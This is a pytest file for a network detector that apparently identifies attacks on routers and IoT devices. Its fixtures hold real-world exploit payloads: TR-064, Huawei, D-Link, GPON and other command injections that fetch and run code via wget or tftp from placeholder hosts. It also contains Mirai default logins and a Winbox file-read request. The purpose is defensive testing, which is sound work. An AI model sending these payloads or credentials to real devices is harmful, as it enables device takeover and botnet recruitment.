"""Dialogues to exchanges: known attacks, ways of attacking, and what must not be taken for either (rule B8)."""

from __future__ import annotations

from base64 import b64encode
from dataclasses import replace
from urllib.parse import quote_plus

import pytest
from tests.dialogue.said import asked, attacks, dialogue, heard, soap

from rearguard.catalogue import load, load_attacks
from rearguard.dialogue.exchange import Proof
from rearguard.dialogue.hear import hear
from rearguard.dialogue.stream import Packet, reassemble

C, S = "client", "server"
TIME = "urn:dslforum-org:service:Time:1"
WAN = "urn:schemas-upnp-org:service:WANIPConnection:1"
PPP = "urn:schemas-upnp-org:service:WANPPPConnection:1"
COMMAND = "`cd /tmp;wget http://update.worm.invalid/readme.txt;cat readme.txt`"
NTP = f"<NewNTPServer1>{COMMAND}</NewNTPServer1><NewNTPServer2></NewNTPServer2>"
TELNET = (S, b"\xff\xfd\x01\r\nlogin: ")


def get(target: str, headers: str = "") -> bytes:
    return f"GET {target} HTTP/1.1\r\nHost: 192.0.2.1\r\n{headers}\r\n".encode()


def form(path: str, fields: str) -> bytes:
    return f"POST {path} HTTP/1.1\r\nContent-Length: {len(fields)}\r\n\r\n{fields}".encode()


def basic(login: str) -> str:
    return f"Authorization: Basic {b64encode(login.encode()).decode()}\r\n"


KNOWN = [
    ("tr064-newntpserver", soap("SetNTPServers", TIME, NTP), 7547),
    ("tr064-newntpserver", soap("SetNTPServers", TIME, NTP, header=False), 5555),
    ("tr064-newntpserver", soap("SetNTPServers", "urn:x", NTP), 37215),
    ("tr064-newntpserver", soap("SetNTPServers", TIME, NTP.replace("`cd /tmp;", "").replace("`", "")), 7547),
    ("tr064-security-keys", soap("GetSecurityKeys", "urn:dslforum-org:service:WLANConfiguration:1", ""), 7547),
    (
        "huawei-hg532-upgrade",
        soap("Upgrade", PPP, "<NewStatusURL>$(/bin/busybox wget -g 192.0.2.6 -l /tmp/b -r /m)</NewStatusURL>"
             "<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL>", "/ctrlt/DeviceUpgrade_1", header=False),
        37215,
    ),
    (
        "realtek-miniigd-client",
        soap("AddPortMapping", WAN, "<NewProtocol>TCP</NewProtocol><NewInternalClient>`cd /tmp; rm -rf *; wget "
             "http://192.0.2.6/x`</NewInternalClient>", "/picsdesc.xml"),
        52869,
    ),
    (
        "dlink-hnap-soapaction",
        get("/HNAP1/", 'SOAPAction: "http://purenetworks.com/HNAP1/GetDeviceSettings/`cd && cd tmp && export '
            'PATH=$PATH:. && cd /tmp;wget http://192.0.2.6/x`"\r\n'),
        80,
    ),
    (
        "dlink-hnap-soapaction",
        get("/HNAP1/", 'SOAPAction: "http://purenetworks.com/HNAP1/GetDeviceSettings/cd && cd tmp && wget x"\r\n'),
        8080,
    ),
    ("linksys-themoon", form("/tmUnblock.cgi", "ttcp_ip=-h+%60wget+http%3A%2F%2F192.0.2.6%2Fm%60"), 8080),
    ("misfortune-cookie", get("/", "Cookie: C107373883=/omg\r\n"), 7547),
    ("misfortune-cookie", get("/", "Cookie: a=b; C107373883=/omg\r\n"), 80),
    (
        "gpon-dasan-command",
        form("/GponForm/diag_Form?images/", "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://"
             "192.0.2.6/k+-O+->/tmp/k;sh+/tmp/k&ipv=0"),
        80,
    ),
    ("gpon-dasan-bypass", get("/GponForm/device_Form?images/"), 8080),
    ("arcadyan-traversal", form("/images/..%2fapply_abstract.cgi", "action=start_ping"), 80),
    ("tplink-ax21-country", get("/cgi-bin/luci/;stok=/locale?form=country&country=$(id%3E/tmp/o)"), 80),
    ("zyxel-viewlog", form("/cgi-bin/ViewLog.asp", "remote_host=%3bcd+/tmp;wget+http://192.0.2.6/x"), 80),
]  # fmt: skip


@pytest.mark.parametrize(("attack", "payload", "port"), KNOWN)
def test_a_known_attack_is_named(attack: str, payload: bytes, port: int) -> None:
    found = asked(payload, port=port)
    assert attack in attacks(found)
    assert all(load_attacks().get(name).certain for name in attacks(found) if name != "lan-service-called")
    (hit,) = [hit for hit in found.hits if hit.attack == attack]
    assert hit.proof == Proof(10**9, 1, from_server=False)
    assert 0 < len(hit.excerpt) <= 200


@pytest.mark.parametrize(
    ("attack", "payload", "port"),
    [
        (
            "shell-in-soap-parameter",
            soap("SetX", TIME, "<NewAnything>;/usr/sbin/telnetd</NewAnything>"),
            7547,
        ),
        ("shell-in-soap-parameter", soap("X", WAN, "<NewRemoteHost>&#36;(reboot)</NewRemoteHost>"), 49152),
        ("shell-in-web-field", get("/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.6/j;sh+/tmp/j"), 80),
        (
            "shell-in-web-field",
            get("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.6/M"),
            80,
        ),
        ("shell-in-web-field", form("/goform/Diagnosis", "host=127.0.0.1%3btelnetd"), 8080),
        ("shell-in-web-field", get("/cgi-bin/;killall$IFS'httpd'"), 80),
        (
            "shell-in-web-field",
            form("/boaform/admin/formPing", "target_addr=%3Brm%20-rf%20/var/tmp/s%3B"),
            80,
        ),
        ("lan-service-called", soap("GetInfo", TIME, ""), 7547),
        ("lan-service-called", get("/HNAP1/"), 8080),
        ("overlong-header", get("/", f"SOAPAction: {'a' * 600}\r\n"), 7547),
        ("default-login-web", get("/", basic("admin:admin")), 8080),
    ],
)
def test_a_way_of_attacking_is_told_where_the_attack_has_no_name(
    attack: str, payload: bytes, port: int
) -> None:
    found = asked(payload, port=port)
    assert attack in attacks(found)
    assert not load_attacks().get(attack).certain


PAGE = (
    "<title>advisory</title>\nPOST /UD/act?1 HTTP/1.1\r\nSOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers"
    f"\r\n\r\n<?xml?><e:Envelope><e:Body><u:SetNTPServers>{NTP}</u:SetNTPServers></e:Body></e:Envelope>"
).encode()
ODD = "<NewSSID>O'Neil &amp; `home`; $5 | more</NewSSID><NewKey>pa$$w`rd;</NewKey><NewURL>http://a/f;v=1?x=1&amp;y=2</NewURL>"


@pytest.mark.parametrize(
    ("turns", "port"),
    [
        (
            [
                (C, get("/advisory.html")),
                (S, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(PAGE) + PAGE),
            ],
            80,
        ),
        ([(C, get("/cr123")), (S, b"HTTP/1.1 200 OK\r\n\r\n" + PAGE)], 7547),
        (
            [(C, get("/cr123", 'Authorization: Digest username="u"\r\n')), (S, b"HTTP/1.1 204 No\r\n\r\n")],
            7547,
        ),
        ([(C, get("/search?q=%60wget+http%3A%2F%2Fx%60"))], 80),
        (
            [
                (
                    C,
                    form(
                        "/forum/post.php",
                        "text=" + quote_plus("first cd /tmp; wget http://x.example/a; sh a"),
                    ),
                )
            ],
            80,
        ),
        ([(C, form("/cgi-bin/search.pl", "q=cats;dogs&name=Tom+%26+Jerry&t=rock+|+roll"))], 80),
        ([(C, get("/", "Cookie: C1=a; C2=b; PHPSESSID=C107373883\r\n"))], 80),
        ([(C, get("/images/../x.png"))], 80),
        ([(C, get("/", "Authorization: Bearer YWRtaW46YWRtaW4=\r\n"))], 80),
        ([(C, get("/", basic("u4711:k29fjq")))], 80),
        ([(S, b"220 mail\r\n"), (C, b"DATA\r\n" + PAGE)], 7547),
        ([(S, b"5.7.1-MySQL\0"), (C, b"\x03SELECT rule\0"), (S, PAGE)], 5555),
        (
            [
                TELNET,
                (C, b"operator\r\n"),
                (S, b"Password: "),
                (C, b"k29fjq\r\n"),
                (S, b"\r\n# "),
                (C, b"show version\r\n"),
            ],
            23,
        ),
    ],
)
def test_harmless_requests_hit_nothing(turns: list[tuple[str, bytes]], port: int) -> None:
    assert attacks(heard(turns, port=port)) == []


@pytest.mark.parametrize("service", [TIME, WAN, "http://purenetworks.com/HNAP1/"])
def test_odd_characters_in_management_values_are_no_command(service: str) -> None:
    assert attacks(asked(soap("SetConfig", service, ODD))) == ["lan-service-called"]


def test_a_device_may_tell_its_controller_any_name() -> None:
    values = f"<ParameterValueStruct><Name>Device.WiFi.SSID.1</Name><Value>{COMMAND}</Value></ParameterValueStruct>"
    answer = soap("GetParameterValuesResponse", "urn:dslforum-org:cwmp-1-2", values, "/acs", header=False)
    assert attacks(asked(answer)) == []


def test_a_worm_does_not_hide_behind_the_controller_s_namespace() -> None:
    assert attacks(asked(soap("SetNTPServers", "urn:dslforum-org:cwmp-1-0", NTP))) == ["tr064-newntpserver"]


def test_an_incidental_dialogue_has_no_attack() -> None:
    one = dialogue([(C, KNOWN[0][1])], port=8123, listed=(7547,))
    found = hear(one, load_attacks(), load())
    assert (found.incidental, found.hits) == (True, ())


def test_a_bound_pattern_counts_only_where_its_interface_may_listen() -> None:
    cookie = get("/", "Cookie: C107373883=/omg\r\n")
    assert attacks(asked(cookie, port=7547)) == ["misfortune-cookie"]
    assert attacks(asked(cookie, port=1883)) == []


def test_hosts_and_urls_that_the_payload_names() -> None:
    (hit,) = asked(soap("SetNTPServers", TIME, NTP)).hits
    assert hit.named == ("update.worm.invalid",)
    assert hit.urls == ("http://update.worm.invalid/readme.txt",)
    assert hit.excerpt == f"NewNTPServer1={COMMAND}"


def test_each_attacking_request_has_its_own_answer() -> None:
    taken = f"<s:Envelope><s:Body><u:SetNTPServersResponse xmlns:u='{TIME}'/>".encode()
    turns = [
        (C, get("/")), (S, b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"),
        (C, soap("SetNTPServers", TIME, NTP)),
        (S, b"HTTP/1.1 200 OK\r\n\r\n" + taken),
    ]  # fmt: skip
    found = heard(turns)
    assert (found.answer, found.status, found.method, found.path) == ("refused", 404, "GET", "/")
    assert [(hit.answer, hit.status, hit.proof.rec) for hit in found.hits] == [("soap", 200, 3)]
    assert found.identity == "tr064"


@pytest.mark.parametrize("upto", [b"127.0.0.1", b"Length:", b"<?xml", b"<s:Body>", b"<NewNTPServer1>"])
def test_an_attack_is_found_although_its_beginning_was_not_seen(upto: bytes) -> None:
    payload = soap("SetNTPServers", TIME, NTP)
    cut = payload.index(upto)
    assert attacks(asked(payload[cut:], skip=cut)) == ["tr064-newntpserver"]


def test_an_attack_behind_a_gap() -> None:
    payload = soap("SetNTPServers", TIME, NTP)
    one = dialogue([(C, payload)])
    stream = reassemble(
        [Packet(0, payload[:30], 30, 1, 1), Packet(90, payload[90:], len(payload) - 90, 2, 2)], 16384
    )
    assert stream.islands
    found = hear(replace(one, client=stream), load_attacks(), load())
    assert attacks(found) == ["tr064-newntpserver"]
    assert found.hits[0].proof.rec == 2


@pytest.mark.parametrize(
    ("status", "login"),
    [(b"200 OK", "succeeded"), (b"302 Found", "succeeded"), (b"401 No", "tried"), (b"", "tried")],
)
def test_credentials_of_a_request(status: bytes, login: str) -> None:
    turns = [(C, get("/", basic("op:s3cret")))]
    if status:
        turns.append((S, b"HTTP/1.1 " + status + b"\r\nContent-Length: 0\r\n\r\n"))
    found = heard(turns)
    assert found.login == login
    assert [(secret.kind, secret.shown) for secret in found.secrets] == [("basic-auth", "op / ********")]
    assert "s3cret" not in repr(found)


def test_a_password_in_a_form() -> None:
    found = asked(form("/login.cgi", "user=op&login_password=s3cret&x="), port=80)
    assert [(secret.kind, secret.shown) for secret in found.secrets] == [
        ("http-form", "login_password = ********")
    ]


@pytest.mark.parametrize(
    ("payload", "fetch"),
    [
        (get("/a"), ("192.0.2.1",)),
        (
            b"GET http://DL.example:8080/a HTTP/1.1\r\nHost: [2001:db8::1]:80\r\n\r\n",
            ("2001:db8::1", "dl.example"),
        ),
        (b"GET / HTTP/1.1\r\nHost: a<b>\r\n\r\n", ()),
        (b"GET /\r\n\r\n", ()),
    ],
)
def test_hosts_that_a_client_asked_for(payload: bytes, fetch: tuple[str, ...]) -> None:
    assert asked(payload, port=80).fetch == fetch


@pytest.mark.parametrize(
    ("logins", "expected", "answer"),
    [
        ([(b"root", b"xc3511")], ["mirai-login"], "prompt"),
        ([(b"root", b"admin")], ["default-login"], "prompt"),
        ([(b"root", b"")], ["default-login"], "prompt"),
        ([(b"admin", b"QwestM0dem")], ["zyxel-pk5001z-login"], "prompt"),
        ([(b"root", b"XC3511")], [], "prompt"),
        ([(b"op", b"k29fjq")], [], "prompt"),
    ],
)
def test_logins_at_a_console(logins: list[tuple[bytes, bytes]], expected: list[str], answer: str) -> None:
    turns = [TELNET]
    for user, password in logins:
        turns += [
            (C, user + b"\r\n"),
            (S, b"Password: "),
            (C, password + b"\r\n"),
            (S, b"\r\nLogin incorrect\r\nlogin: "),
        ]
    found = heard(turns, port=23)
    assert (attacks(found), found.answer, found.login) == (expected, answer, "tried")
    assert all(b"xc3511".decode() not in hit.excerpt for hit in found.hits)


def test_a_worm_at_a_console() -> None:
    turns = [TELNET, (C, b"root\r\n"), (S, b"Password: "), (C, b"vizxv\r\n"), (S, b"\r\n# ")]
    for command in (b"enable", b"system", b"shell", b"sh", b"/bin/busybox WOPBOT",
                    b"cd /tmp; tftp -g -r mips 198.51.100.9; sh mips"):  # fmt: skip
        turns += [(C, command + b"\r\n"), (S, b"\r\n# ")]
    found = heard(turns, port=2323)
    assert attacks(found) == ["mirai-login", "mirai-loader"]
    assert (found.login, found.answer) == ("succeeded", "shell")
    assert {hit.named for hit in found.hits} == {("198.51.100.9",)}


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        (b"wget http://dl.worm.invalid/x", ["download-at-console"]),
        (b"cd /tmp; tftp -g -r x 198.51.100.9", ["download-at-console"]),
        (b"busybox wget -O- http://dl.worm.invalid/x | sh", ["download-at-console"]),
        (b"wget", []),
        (b"show tftp", []),
        (b"ping 198.51.100.9", []),
        (b"copy running-config tftp://198.51.100.9/backup", []),
    ],
)
def test_programs_fetched_at_a_console(command: bytes, expected: list[str]) -> None:
    turns = [
        TELNET,
        (C, b"op\r\n"),
        (S, b"Password: "),
        (C, b"k29fjq\r\n"),
        (S, b"\r\n# "),
        (C, command + b"\r\n"),
    ]
    assert attacks(heard(turns, port=23)) == expected


@pytest.mark.parametrize(
    ("attack", "payload", "port"),
    [
        ("netis-command", b"AAAAAAAAnetcore\0", 53413),
        ("netis-command", b"AA\0\0AAAA cd /tmp; wget http://192.0.2.6/x\0", 53413),
        ("realtek-mp-daemon-command", b"x;cd /tmp; wget http://192.0.2.6/x", 9034),
    ],
)
def test_hidden_services_over_udp(attack: str, payload: bytes, port: int) -> None:
    assert attacks(asked(payload, port=port, proto=17)) == [attack]
    assert attacks(asked(payload, port=1900, proto=17)) == []


def test_winbox_file_read() -> None:
    payload = b"h\x01\x00fM2\x05\x00\xff\x01//./..//./..//./../flash/rw/store/user.dat\x02\x00\xff\x88"
    assert attacks(asked(payload, port=8291)) == ["winbox-file-read"]
